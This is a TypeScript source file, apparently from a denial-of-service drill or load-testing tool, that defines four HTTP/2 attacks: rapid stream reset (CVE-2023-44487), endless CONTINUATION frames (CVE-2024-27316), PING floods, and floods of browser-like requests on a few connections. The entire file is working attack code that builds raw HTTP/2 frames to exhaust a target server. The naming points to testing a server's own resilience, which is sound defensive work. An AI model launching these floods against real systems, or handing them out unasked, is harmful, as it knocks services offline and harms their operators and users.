import type { Socket } from "node:net";
import type { Attack } from "#drill/attack/attack.ts";
import { hold } from "#drill/attack/hold.ts";
import { streams } from "#drill/attack/streams.ts";
import { frame, headers, PING, PREFACE, TYPE } from "#drill/h2-frame.ts";

/** Attacks on HTTP/2. */
export const H2_ATTACKS: readonly Attack[] = [
  {
    name: "rapid-reset",
    about: "HTTP/2 streams that are opened and reset at once (CVE-2023-44487)",
    start(field) {
      const block = headers(field.target);
      const next = new WeakMap<Socket, number>();
      return hold(
        field,
        20,
        (socket) => {
          next.set(socket, 1);
          socket.write(PREFACE);
        },
        (socket) => {
          const frames: Buffer[] = [];
          let stream = next.get(socket) ?? 1;
          for (let i = 0; i < 50; i++, stream += 2) {
            frames.push(
              frame(TYPE.headers, 5, stream, block),
              frame(TYPE.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
            );
          }
          next.set(socket, stream);
          socket.write(Buffer.concat(frames));
        },
        ["h2"],
      );
    },
  },
  {
    name: "continuation",
    about: "HTTP/2 heads that go on in frame after frame (CVE-2024-27316)",
    start: (field) =>
      hold(
        field,
        20,
        (socket) =>
          socket.write(Buffer.concat([PREFACE, frame(TYPE.headers, 0, 1, headers(field.target))])),
        (socket) => {
          socket.write(frame(TYPE.continuation, 0, 1, Buffer.alloc(2000, 0x10)));
        },
        ["h2"],
      ),
  },
  {
    name: "ping",
    about: "HTTP/2 PING after PING",
    start: (field) =>
      hold(
        field,
        20,
        (socket) => socket.write(PREFACE),
        (socket) => {
          socket.write(Buffer.concat(Array.from({ length: 100 }, () => PING)));
        },
        ["h2"],
      ),
  },
  {
    name: "streams",
    about: "whole requests with a browser's looks, a hundred at once on each of a few connections",
    start: streams,
  },
];
